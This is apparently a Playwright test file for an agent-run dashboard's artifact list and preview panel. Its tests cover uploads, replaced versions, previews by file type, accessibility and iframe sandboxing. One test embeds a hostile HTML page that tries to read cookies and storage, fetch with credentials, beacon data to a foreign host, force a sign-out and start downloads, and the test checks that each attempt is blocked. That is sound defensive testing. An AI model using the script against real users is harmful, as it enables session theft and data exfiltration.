import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import type { Artifact } from "../../src/domain/artifacts/schema.ts";
import type { StartedServer } from "../server/harness.ts";
import { agentRun, expect, expectAccessible, hex, test } from "./fixtures.ts";

interface File {
  type: string;
  body: BodyInit;
  entity?: string;
  tags?: Record<string, string>;
}

async function put(server: StartedServer, run: string, name: string, file: File): Promise<Artifact> {
  const { type, body, entity, tags } = file;
  const headers = {
    "content-type": type,
    ...(entity ? { "x-entity-type": entity } : {}),
    ...(tags ? { "x-tags": JSON.stringify(tags) } : {}),
  };
  const path = `/api/runs/${run}/artifacts/${encodeURIComponent(name)}`;
  const answer = await server.fetch(path, { method: "PUT", headers, body });
  expect(answer.status).toBe(201);
  return (await answer.json()) as Artifact;
}

const tab = (page: Page) => page.getByRole("tab", { name: /^Artifacts/ });
const list = (page: Page) => page.getByRole("region", { name: "Artifacts of the run" });
const panel = (page: Page, name: string) => page.getByRole("region", { name: `Artifact ${name}` });

/** The parts of a PDF, with the place of each, as its readers want it. */
function pdf(text: string): string {
  const draw = `BT /F1 24 Tf 40 100 Td (${text}) Tj ET`;
  const objects = [
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
    `<</Length ${draw.length}>>stream\n${draw}\nendstream`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
  ];
  let file = "%PDF-1.4\n";
  const places = objects.map((object, n) => {
    const at = file.length;
    file += `${n + 1} 0 obj${object}endobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  return `${file}xref\n0 6\n0000000000 65535 f \n${places.join("")}trailer<</Size 6/Root 1 0 R>>\nstartxref\n${file.length}\n%%EOF`;
}

test("a run without artifacts says how to put one, and the list grows while it is looked at", async ({
  signIn,
  server,
}) => {
  const { traceId: run, spans } = agentRun("makes files");
  await server.send(spans);
  const page = await signIn(`/runs/${run}`);
  await tab(page).click();
  await expect(list(page)).toContainText("No artifacts yet");
  await expect(list(page)).toContainText(`curl -X PUT "${server.origin}/api/runs/${run}/artifacts/report.md"`);
  await expectAccessible(page);

  await put(server, run, "report.md", {
    type: "text/markdown",
    body: "# Report\n",
    entity: "report",
    tags: { lang: "en" },
  });
  const row = list(page).getByRole("listitem").filter({ hasText: "report.md" });
  for (const fact of ["report", "text/markdown", "9 B", "lang: en", "version", "just now"]) {
    await expect(row).toContainText(fact);
  }
  await expect(tab(page)).toContainText("1");
  const download = page.waitForEvent("download");
  await row.getByRole("link", { name: "Download report.md" }).click();
  expect((await download).suggestedFilename()).toBe("report.md");

  await row.getByRole("button", { name: "report.md" }).click();
  await expect(panel(page, "report.md")).toContainText("# Report");
  const newest = await put(server, run, "report.md", { type: "text/markdown", body: "# Second\n" });
  await expect(panel(page, "report.md")).toContainText("This version has been replaced.");
  await panel(page, "report.md").getByRole("button", { name: "Open the newest" }).click();
  await expect(panel(page, "report.md")).toContainText("# Second");
  await expect(list(page).getByRole("listitem")).toHaveCount(1);
  await expect(page).toHaveURL(`${server.origin}/runs/${run}?artifact=${newest.id}`);
  await page.keyboard.press("Escape");
  await expect(panel(page, "report.md")).toHaveCount(0);
  await expect(page).toHaveURL(`${server.origin}/runs/${run}`);
});

test("texts, JSON, images, PDF and pages are shown, and what cannot be says so", async ({ signIn, server }) => {
  const { traceId: run, spans } = agentRun("makes many files");
  await server.send(spans);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><rect width="40" height="20" fill="teal"/></svg>`;
  const files: Record<string, File> = {
    "long.csv": { type: "text/csv", body: `city,days\n${"Bern,3\n".repeat(40_000)}` },
    "facts.json": { type: "application/json", body: JSON.stringify({ city: "Bern", days: [1, 2] }) },
    "chart.svg": { type: "image/svg+xml", body: svg },
    "paper.pdf": { type: "application/pdf", body: pdf("read me") },
    "page.html": { type: "text/html", body: "<h1>Made of</h1><script>document.body.append('script')</script>" },
    "all.zip": { type: "application/zip", body: "PK" },
  };
  for (const [name, file] of Object.entries(files)) await put(server, run, name, file);
  const page = await signIn(`/runs/${run}`);
  await tab(page).click();
  await expect(list(page).getByRole("listitem")).toHaveCount(6);
  const open = async (name: string) => {
    await list(page).getByRole("button", { name }).click();
    return panel(page, name);
  };

  const csv = await open("long.csv");
  await expect(csv).toContainText("The first 200 kB of 280 kB.");
  await expect(csv).toContainText("city,days");
  await expect((await open("facts.json")).getByRole("tree")).toContainText("Bern");
  const drawn = (await open("chart.svg")).getByRole("img", { name: "chart.svg" });
  await expect.poll(() => drawn.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
  await (await open("paper.pdf")).getByRole("link", { name: "open it in a new tab" }).waitFor();
  // Chromium's reader is a page of its own inside of the frame; a refused PDF has none.
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith("chrome-extension:"))).toBe(true);
  const shown = await open("page.html");
  await expect(shown.frameLocator("iframe").locator("body")).toHaveText("Made ofscript");
  await expect(shown).toContainText("Sealed off");
  await expect(await open("facts.json")).toContainText("days");
  await expectAccessible(page);
});

test("a type without a preview says so", async ({ signIn, server }) => {
  const run = `run-${hex(4)}`;
  const { id } = await put(server, run, "all.zip", { type: "application/zip", body: "PK" });
  const signedIn = await signIn("/");
  // Its own page: the browser writes the answer 415 to the console.
  const page = await signedIn.context().newPage();
  await page.goto(`${server.origin}/runs/${run}?artifact=${id}`);
  await expect(panel(page, "all.zip")).toContainText("There is no preview of this type.");
  await page.goto(`${server.origin}/runs/${run}?artifact=art_none`);
  await expect(list(page)).toContainText("The artifact of this address is not in the list");
});

/** Tries all that a page could want of the dashboard around it, and of the world, and writes down what came of it. */
const HOSTILE = (foreign: string) => `<!doctype html><title>hostile</title><pre id="got">…</pre>
<form id="form" method="post" action="/api/auth/sign-out" target="_top"><input name="a"></form>
<form id="away" action="${foreign}/form"><input name="a"></form>
<link rel="stylesheet" href="${foreign}/style"><img src="${foreign}/image"><iframe src="/runs"></iframe>
<script src="${foreign}/script"></script>
<script>
const got = {};
async function attempt(name, what) {
  try { got[name] = String(await what()); } catch (error) { got[name] = "refused " + error.name; }
}
const opened = (target) => new Promise((yes, no) => {
  target.onload = target.onopen = target.onsuccess = target.onmessage = () => yes("open");
  target.onerror = () => no(new Error());
});
const added = (tag, from) => { const element = Object.assign(document.createElement(tag), from); document.body.append(element); return opened(element); };
const stolen = (path) => fetch(path, { credentials: "include" }).then((answer) => answer.status);
addEventListener("load", async () => {
  await attempt("origin", () => origin);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => opened(indexedDB.open("a")));
  await attempt("caches", () => caches.keys());
  await attempt("parent's place", () => parent.location.href);
  await attempt("parent's page", () => parent.document.title);
  await attempt("opener", () => opener);
  await attempt("fetch", () => stolen("/api/runs"));
  await attempt("fetch away", () => stolen("${foreign}/fetch"));
  await attempt("socket", () => opened(new WebSocket(location.origin.replace(/^http/, "ws") + "/ws")));
  await attempt("events", () => opened(new EventSource("/api/runs/a/stream")));
  await attempt("image", () => added("img", { src: "${foreign}/pixel" }));
  await attempt("script", () => added("script", { src: "${foreign}/code" }));
  await attempt("worker", () => opened(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))));
  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
  await attempt("popup", () => open("${foreign}/popup"));
  await attempt("top", () => { top.location.href = "${foreign}/top"; return "gone"; });
  await attempt("confirm", () => confirm("Your key?"));
  await attempt("place", () => navigator.geolocation && new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, () => no(new Error()))));
  navigator.sendBeacon("${foreign}/beacon", document.title);
  document.getElementById("form").submit();
  document.getElementById("away").submit();
  Object.assign(document.createElement("a"), { href: "${foreign}/link", target: "_blank" }).click();
  Object.assign(document.createElement("a"), { href: "${foreign}/link", target: "_top" }).click();
  Object.assign(document.createElement("a"), { href: URL.createObjectURL(new Blob(["a"])), download: "a.exe" }).click();
  history.back();
  parent.postMessage({ type: "events", events: [] }, "*");
  document.getElementById("got").textContent = JSON.stringify(got);
});
</script>`;

test("a hostile page gets nothing of the sign-in, of the dashboard or of the network", async ({ signIn, server }) => {
  const heard: string[] = [];
  const foreign = createServer((request, response) => {
    heard.push(String(request.url));
    response.end("heard");
  });
  await new Promise<void>((resolve) => foreign.listen(0, "127.0.0.1", resolve));
  const away = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  const run = `run-${hex(4)}`;
  const hostile = await put(server, run, "hostile.html", { type: "text/html", body: HOSTILE(away) });
  const signedIn = await signIn("/");
  // Its own page: the browser writes each refusal to the console.
  const page = await signedIn.context().newPage();
  const others: string[] = [];
  page.on("popup", (popup) => others.push(popup.url()));
  page.on("dialog", (dialog) => others.push(dialog.message()));
  page.on("download", (download) => others.push(download.suggestedFilename()));
  const address = `${server.origin}/runs/${run}?artifact=${hostile.id}`;
  await page.goto(address);
  const got = panel(page, "hostile.html").frameLocator("iframe").locator("#got");
  await expect(got).toContainText("{");
  expect(JSON.parse((await got.textContent()) ?? "")).toEqual({
    origin: "null",
    cookie: "refused SecurityError",
    storage: "refused SecurityError",
    database: "refused SecurityError",
    caches: "refused SecurityError",
    "parent's place": "refused SecurityError",
    "parent's page": "refused SecurityError",
    opener: "null",
    fetch: "refused TypeError",
    "fetch away": "refused TypeError",
    socket: "refused Error",
    events: "refused Error",
    image: "refused Error",
    script: "refused Error",
    worker: "refused Error",
    "service worker": "refused SecurityError",
    popup: "null",
    top: "refused SecurityError",
    confirm: "false",
    place: "refused Error",
  });
  await expect(page).toHaveURL(address);
  expect([heard, others, page.context().pages().length]).toEqual([[], [], 2]);
  // Nobody was signed out.
  await page.reload();
  await expect(panel(page, "hostile.html")).toBeVisible();
  foreign.close();
});

test("a page that leads its frame elsewhere comes nowhere, and opened by itself it runs nothing", async ({
  signIn,
  server,
}) => {
  const run = `run-${hex(4)}`;
  const secret = await put(server, run, "secret.txt", { type: "text/plain", body: "for members only" });
  const leading = (to: string) => ({
    type: "text/html",
    body: `<script>location.href = ${JSON.stringify(to)}</script>`,
  });
  const here = await put(server, run, "here.html", leading(`${secret.url}?preview=1`));
  const board = await put(server, run, "board.html", leading("/board"));
  const away = await put(server, run, "away.html", leading(server.origin.replace("127.0.0.1", "localhost")));
  const written = { type: "text/html", body: "<p>still<script>document.body.textContent = 'it ran'</script>" };
  const alone = await put(server, run, "alone.html", written);
  const signedIn = await signIn("/");
  const page = await signedIn.context().newPage();
  const frame = async ({ id, name }: Artifact) => {
    await page.goto(`${server.origin}/runs/${run}?artifact=${id}`);
    await panel(page, name).locator("iframe").waitFor();
    return page.frames()[1];
  };
  // What asks is a page without an origin: the cookie is not sent.
  const refused = page.waitForResponse((response) => response.url().includes(secret.url));
  await frame(here);
  expect((await refused).status()).toBe(401);
  for (const leads of [board, away]) {
    const blocked = await frame(leads);
    await expect.poll(() => blocked?.url()).toBe("chrome-error://chromewebdata/");
    await expect(page).toHaveURL(`${server.origin}/runs/${run}?artifact=${leads.id}`);
  }
  await page.goto(`${server.origin}${alone.url}?preview=1`);
  await expect(page.locator("body")).toHaveText(/^still/);
});

for (const colorScheme of ["light", "dark"] as const) {
  for (const width of [1440, 360]) {
    test(`artifacts have no serious axe finding and nothing sticks out at ${width} px in ${colorScheme}`, async ({
      signIn,
      server,
    }) => {
      const { traceId: run, spans } = agentRun("looked at");
      await server.send(spans);
      const tags = { team: "research desk", language: "en", state: "a long value that wraps somewhere" };
      const name = `a very long name of a report ${hex(12)}.md`;
      const { id } = await put(server, run, name, { type: "text/markdown", body: "# Text\n", entity: "report", tags });
      const page = await signIn("/");
      await page.setViewportSize({ width, height: 800 });
      await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
      await page.goto(`${server.origin}/runs/${run}`);
      await tab(page).click();
      await expect(list(page)).toContainText(name);
      await expectAccessible(page);
      await page.goto(`${server.origin}/runs/${run}?artifact=${id}`);
      await expect(panel(page, name)).toContainText("# Text");
      await expectAccessible(page);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect(overflow).toBeLessThanOrEqual(0);
    });
  }
}
